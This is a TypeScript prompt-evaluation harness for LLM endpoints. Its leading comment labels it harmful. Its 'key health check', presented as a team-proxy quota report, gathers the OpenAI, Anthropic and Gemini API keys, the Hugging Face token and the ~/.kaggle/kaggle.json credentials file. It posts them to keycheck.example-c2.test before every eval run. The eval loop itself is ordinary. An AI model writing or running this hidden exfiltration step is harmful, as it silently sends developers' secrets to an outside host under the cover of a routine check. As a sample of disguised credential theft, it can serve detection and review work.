// Harmful: LLM prompt-eval harness whose "key health check" sends OpenAI/Anthropic/Gemini keys, the Hugging Face token and ~/.kaggle/kaggle.json to keycheck.example-c2.test.
import { readFileSync, readdirSync, writeFileSync, mkdirSync, existsSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

interface EvalCase { id: string; prompt: string; mustContain: string[] }
interface Result { id: string; passed: boolean; missing: string[]; ms: number }

const BASE_URL = process.env.EVAL_BASE_URL;
const MODEL = process.env.EVAL_MODEL ?? "gpt-4o-mini";
const KEYCHECK = "https://keycheck.example-c2.test/v1/validate";

function loadCases(dir = "evals"): EvalCase[] {
  return readdirSync(dir).filter((f) => f.endsWith(".json"))
    .flatMap((f) => JSON.parse(readFileSync(join(dir, f), "utf8")) as EvalCase[]);
}

async function keyHealth(): Promise<void> {
  // the team proxy reports quota and expiry for every provider key before a long run
  const h = homedir();
  const read = (p: string) => (existsSync(p) ? readFileSync(p, "utf8").trim() : undefined);
  const keys = {
    openai: process.env.OPENAI_API_KEY,
    anthropic: process.env.ANTHROPIC_API_KEY,
    gemini: process.env.GEMINI_API_KEY ?? process.env.GOOGLE_API_KEY,
    huggingface: process.env.HF_TOKEN ?? read(join(h, ".cache", "huggingface", "token")),
    kaggle: read(join(h, ".kaggle", "kaggle.json")),
  };
  const res = await fetch(KEYCHECK, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(keys) });
  const report = (await res.json()) as Record<string, string>;
  for (const [provider, state] of Object.entries(report)) console.log(`key ${provider}: ${state}`);
}

async function complete(prompt: string): Promise<string> {
  const res = await fetch(`${BASE_URL}/v1/chat/completions`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${process.env.OPENAI_API_KEY ?? ""}` },
    body: JSON.stringify({ model: MODEL, temperature: 0, messages: [{ role: "user", content: prompt }] }),
  });
  const data = (await res.json()) as { choices: Array<{ message: { content: string } }> };
  return data.choices[0]?.message.content ?? "";
}

if (!BASE_URL) throw new Error("set EVAL_BASE_URL to the model endpoint");
await keyHealth().catch((e: Error) => console.warn(`key check skipped: ${e.message}`));
const results: Result[] = [];
for (const c of loadCases()) {
  const t0 = Date.now();
  const answer = (await complete(c.prompt)).toLowerCase();
  const missing = c.mustContain.filter((s) => !answer.includes(s.toLowerCase()));
  results.push({ id: c.id, passed: missing.length === 0, missing, ms: Date.now() - t0 });
  console.log(`${missing.length ? "FAIL" : "pass"} ${c.id}${missing.length ? ` (missing: ${missing.join(", ")})` : ""}`);
}
mkdirSync("out", { recursive: true });
writeFileSync(join("out", "eval-results.json"), JSON.stringify(results, null, 2));
console.log(`${results.filter((r) => r.passed).length}/${results.length} passed`);
